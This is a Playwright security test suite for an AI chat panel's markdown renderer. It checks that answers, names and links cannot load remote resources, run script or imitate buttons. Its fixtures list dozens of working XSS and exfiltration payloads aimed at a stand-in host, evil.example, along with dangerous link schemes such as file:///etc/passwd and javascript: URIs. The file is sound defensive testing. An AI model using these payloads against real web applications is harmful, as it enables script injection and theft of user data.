import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import type { StreamEvent } from '../../src/model/event.ts';
import { launchBrowser } from '../rig/browser.ts';
import {
  asked,
  eventsMessage,
  openPanel,
  panelState,
  posted,
  say,
  servePanel,
  streamed,
  type PanelSite,
} from './panelPage.ts';

let browser: Browser;
let site: PanelSite;
let page: Page;
const outside: string[] = [];

before(async () => {
  [browser, site] = await Promise.all([launchBrowser(console.log), servePanel()]);
  page = await openPanel(browser, site);
  page.on('request', (request) => {
    const isOwn = /^\/(?:codicon\.ttf|part-\w+\.js)/.test(request.url().replace(site.origin, ''));
    if (!isOwn) outside.push(request.url());
  });
  page.on('dialog', (dialog) => {
    outside.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => outside.push(`popup ${popup.url()}`));
});

after(async () => {
  await browser.close();
  await site.close();
});

const evil = 'https://evil.example';
const run = 'window.pwned=1';

/** T01, T02: ways of markup to load something or to run something. */
const markup = [
  `![](${evil}/?d=SECRET)`,
  `![a](${evil}/a.png "t")`,
  `![ref][r]\n\n[r]: ${evil}/r.png`,
  `[![x](${evil}/badge.svg)](${evil})`,
  `![](data:image/svg+xml,%3Csvg%20onload='${run}'%3E)`,
  `<img src="${evil}/1.png" onerror="${run}">`,
  `<img srcset="${evil}/2.png 2x">`,
  `<picture><source srcset="${evil}/3.png"><img></picture>`,
  `<svg><image href="${evil}/4.png"/><script>${run}</script></svg>`,
  `<svg onload="${run}">`,
  `<style>@import url(${evil}/5.css); * { background: url(${evil}/6.png) }</style>`,
  `<div style="background:url(${evil}/7.png)">x</div>`,
  `<link rel="preload" href="${evil}/8.js" as="script"><link rel="dns-prefetch" href="${evil}">`,
  `<link rel="stylesheet" href="${evil}/9.css">`,
  `<video poster="${evil}/10.png" src="${evil}/10.mp4" autoplay></video>`,
  `<audio src="${evil}/11.mp3" autoplay></audio>`,
  `<object data="${evil}/12"></object><embed src="${evil}/13">`,
  `<iframe src="${evil}/14" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/15">`,
  `<form action="${evil}/16"><input type="image" src="${evil}/17.png"><button>go</button></form>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<template><img src="${evil}/18.png" onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<script>${run}</script>`,
  `<script src="${evil}/19.js"></script>`,
  `<body onload="${run}" background="${evil}/20.png">`,
  `<input autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<a href="javascript:${run}">x</a>`,
  `<table background="${evil}/21.png"><td>x</table>`,
  '<div class="card"><button class="button" data-turn="q1">Approve</button></div>',
  `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run}"\n%%{init: {"themeCSS": "@import url(${evil}/22.css)"}}%%\n\`\`\``,
  `\`\`\`html\n<img src="${evil}/23.png" onerror="${run}">\n\`\`\``,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `$\\href{javascript:${run}}{x}$ $\\includegraphics{${evil}/24.png}$`,
  `| a |\n|--|\n| <img src=x onerror="${run}"> <br><br/> |`,
  `- <img src="${evil}/25.png"\n  onerror="${run}">`,
  `> <svg><a xlink:href="javascript:${run}">x</a></svg>`,
  `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  `<img src="${evil}/half`,
  `<scr\`ipt>${run}</scr\`ipt>`,
  `\u0000<img\u0000 src=${evil}/26.png>`,
];

/** T04: links that must not be links. */
const refusedLinks = [
  `command:workbench.action.terminal.sendSequence?%7B%7D`,
  'vscode://publisher.extension/run',
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,%3Cscript%3E${run}%3C/script%3E`,
  `vbscript:x`,
  'blob:https://a.example/1',
  'file:///etc/passwd',
  'vscode-file://vscode-app/x',
  '\\\\host\\share',
  '//evil.example/x',
  './src/a.ts',
];

const answerParts: StreamEvent['type'][] = ['text', 'reasoning', 'refusal'];
let turnCount = 0;

/** Streams a text as an answer in small pieces, ended, and returns where it is drawn. */
async function answered(text: string, type: StreamEvent['type'] = 'text'): Promise<ReturnType<Page['locator']>> {
  const id = `s${(turnCount += 1)}`;
  const pieces = text.match(/[\s\S]{1,11}/g) ?? [];
  await say(page, { type: 'snapshot', state: panelState() }, eventsMessage(asked('?', id)));
  for (const delta of pieces) await say(page, eventsMessage(streamed([{ type, delta } as StreamEvent], id)));
  await say(page, eventsMessage(streamed([{ type: 'finish', reason: 'stop' }], id)));
  await page.locator(`[data-turn=a${id}] footer`).waitFor();
  return page.locator(`[data-turn=a${id}]`);
}

const nothingGotOut = async () => {
  assert.deepEqual(outside, []);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(
    await page
      .locator('#app :is(img, svg, iframe, object, embed, style, link, script, form form, video, audio)')
      .count(),
    0,
  );
};

describe('a hostile answer', () => {
  for (const [index, text] of markup.entries()) {
    it(`loads and runs nothing: ${index} ${JSON.stringify(text.slice(0, 50))}`, async () => {
      const turn = await answered(text);
      await turn.evaluate((element) => element.querySelectorAll('details').forEach((fold) => (fold.open = true)));
      await nothingGotOut();
      const foreign = await turn.locator('parley-markdown').evaluate((element) =>
        [...element.querySelectorAll('*')]
          .flatMap((inner) => [...inner.attributes])
          .map(({ name }) => name)
          .filter((name) => /^on|^(style|id|src|srcset|href|action|background|data-turn)$/.test(name)),
      );
      assert.deepEqual(foreign, []);
    });
  }

  it('is as harmless in reasoning and in a refusal', async () => {
    for (const type of answerParts.slice(1)) {
      const turn = await answered(markup.join('\n\n'), type);
      await turn.evaluate((element) => element.querySelectorAll('details').forEach((fold) => (fold.open = true)));
      await nothingGotOut();
    }
  });

  it('cannot imitate a control: no button comes of its text', async () => {
    const turn = await answered(
      '<button onclick="x">Approve</button>\n\n<section class="card">Approve?</section>\n\n[Approve](command:x)',
    );
    assert.equal(
      await turn.locator('parley-markdown').locator('button, section, [role=button], [role=link]').count(),
      0,
    );
    assert.match(await turn.innerText(), /<button onclick="x">Approve<\/button>/);
  });

  it('raw HTML is shown as the text it is', async () => {
    const turn = await answered('<b>bold</b> and <script>alert(1)</script>');
    assert.match(await turn.innerText(), /<b>bold<\/b> and <script>alert\(1\)<\/script>/);
  });

  it('a line of two megabytes does not hold up the panel for long', async () => {
    const started = Date.now();
    await say(page, { type: 'snapshot', state: panelState() }, eventsMessage(asked('?', 'big')));
    const delta = '**a '.repeat(524_288);
    await say(
      page,
      eventsMessage(
        streamed(
          [
            { type: 'text', delta },
            { type: 'finish', reason: 'stop' },
          ],
          'big',
        ),
      ),
    );
    await page.locator('[data-turn=abig] footer').waitFor();
    assert.ok(Date.now() - started < 15_000);
  });
});

describe('hostile names', () => {
  it('an error, a model, a path, a tool and a setup are text', async () => {
    const payload = `</script><img src="${evil}/n.png" onerror="${run}">`;
    const model = { label: payload, provider: payload };
    const attachment = { id: payload, kind: 'file', path: payload, uri: payload, languageId: payload } as const;
    const setup = { ready: false, local: [{ connection: payload, label: payload }], environment: [], demo: true };
    await say(page, {
      type: 'snapshot',
      state: panelState({ model, attachments: [attachment], unsaved: payload, setup }),
    });
    await page.getByRole('button', { name: 'Use </script>' }).waitFor();
    await say(page, { type: 'snapshot', state: panelState({ model, attachments: [attachment] }) });
    await say(
      page,
      eventsMessage([
        { type: 'user', id: payload, at: 0, text: payload, attachments: [attachment] },
        { type: 'assistant', id: 'n', at: 0, model: { connection: payload, model: payload }, label: payload },
        { type: 'stream', id: 'n', event: { type: 'tool-call', id: payload, name: payload, arguments: payload } },
        {
          type: 'stream',
          id: 'n',
          event: {
            type: 'error',
            error: { kind: 'bad-request', message: payload, detail: payload, requestId: payload },
          },
        },
      ]),
    );
    await page.getByRole('button', { name: 'Pick another model' }).waitFor();
    await nothingGotOut();
  });
});

describe('links', () => {
  for (const href of refusedLinks) {
    it(`${href} is text, with the address in sight`, async () => {
      const turn = await answered(`[click](<${href}>)`);
      assert.equal(await turn.locator('a').count(), 0);
      assert.ok((await turn.innerText()).includes(`click (${href.replace('\\\\host', '\\host')})`));
      await nothingGotOut();
    });
  }

  it('a link asks the host for exactly the address that its title shows', async () => {
    const turn = await answered(
      '[shop](https://аpple.com/pay) [https://good.example](https://evil.example/) <me@a.example> https://plain.example/x',
    );
    const before = (await posted(page)).length;
    for (const link of await turn.getByRole('link').all()) await link.click();
    await turn.getByRole('link').first().click({ button: 'middle' });
    const titles = await turn.getByRole('link').evaluateAll((all) => all.map((link) => (link as HTMLElement).title));
    assert.deepEqual(titles, [
      'https://xn--pple-43d.com/pay',
      'https://evil.example/',
      'mailto:me@a.example',
      'https://plain.example/x',
    ]);
    assert.deepEqual(
      (await posted(page)).slice(before),
      titles.map((url) => ({ type: 'open-link', url })),
    );
    assert.match(await turn.innerText(), /https:\/\/good\.example \(evil\.example\)/);
    await nothingGotOut();
  });
});

describe('messages', () => {
  it('of another origin, and of no known shape, change nothing', async () => {
    await say(page, { type: 'snapshot', state: panelState() });
    await page.getByText('Ask about your code').waitFor();
    const before = await page.locator('#app').innerHTML();
    await page.evaluate(() => {
      const state = { chat: 'x', draft: 'forged' };
      window.dispatchEvent(
        new MessageEvent('message', { origin: 'https://evil.example', data: { type: 'focus', text: 'forged' } }),
      );
      window.dispatchEvent(
        new MessageEvent('message', { origin: 'https://evil.example', data: { type: 'snapshot', state } }),
      );
      for (const data of [null, 1, 'x', {}, { type: 'unknown' }]) window.postMessage(data, window.origin);
    });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
    assert.equal(await page.locator('#app').innerHTML(), before);
    assert.equal(await page.getByRole('textbox').inputValue(), '');
    await say(page, { type: 'focus', text: 'still alive' });
    assert.equal(await page.getByRole('textbox').inputValue(), 'still alive');
  });
});
